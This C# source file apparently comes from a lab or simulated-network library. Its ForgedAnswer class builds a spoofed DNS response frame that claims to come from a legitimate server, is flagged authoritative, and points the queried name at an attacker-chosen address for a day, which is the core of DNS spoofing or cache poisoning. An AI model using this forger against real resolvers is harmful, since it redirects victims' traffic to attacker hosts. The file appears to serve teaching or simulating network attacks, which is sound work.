using Firstbyte.Addressing;
using Firstbyte.Dns.Records;
using Firstbyte.Dns.Wire;
using Firstbyte.Packets;

namespace Firstbyte.Labs.Attackers;

/// <summary>
/// A DNS answer that claims to come from somebody else, as a whole Ethernet frame: nothing on its way asks whether the sender may say so
/// (RFC 3833 section 2.1).
/// </summary>
internal static class ForgedAnswer
{
    // Forged answers are to stay: a day.
    private const uint Seconds = 86_400;

    /// <summary>Makes one.</summary>
    /// <param name="frames">The world's frames.</param>
    /// <param name="to">The hardware address of the victim, or of the router on the way to it.</param>
    /// <param name="from">The attacker's hardware address.</param>
    /// <param name="server">The address and port that it claims to come from.</param>
    /// <param name="resolver">The victim's address and the port it asked from.</param>
    /// <param name="id">The question's id, known or guessed.</param>
    /// <param name="question">The question, in the case in which it was asked where that is known.</param>
    /// <param name="answer">The lie.</param>
    public static Frame Make(
        FramePool frames, MacAddress to, MacAddress from, Endpoint server, Endpoint resolver, ushort id, Question question,
        IpAddress answer)
    {
        Span<byte> message = stackalloc byte[512];
        var writer = new MessageWriter(message);
        writer.TryWriteQuestion(question);
        writer.TryWriteRecord(MessageSection.Answer, new DnsRecord(question.Name, Ttl.FromWire(Seconds), new AddressData(answer)));
        var length = writer.Finish(id, HeaderFlags.Response | HeaderFlags.AuthoritativeAnswer, OpCode.Query, ResponseCode.NoError);
        var frame = frames.Rent(UdpView.HeaderLength + length);
        message[..length].CopyTo(frame.Span[UdpView.HeaderLength..]);
        UdpWriter.Seal(frame.Span, server.Port, resolver.Port, server.Address.Bits, resolver.Address.Bits);
        frame.Prepend(Ipv4View.MinHeaderLength);
        Ipv4Writer.Seal(frame.Span, new Ipv4Header((uint)server.Address.Bits, (uint)resolver.Address.Bits, IpProtocol.Udp));
        EthernetWriter.Seal(frame.Prepend(EthernetView.HeaderLength), to, from, EtherType.Ipv4);
        return frame;
    }
}
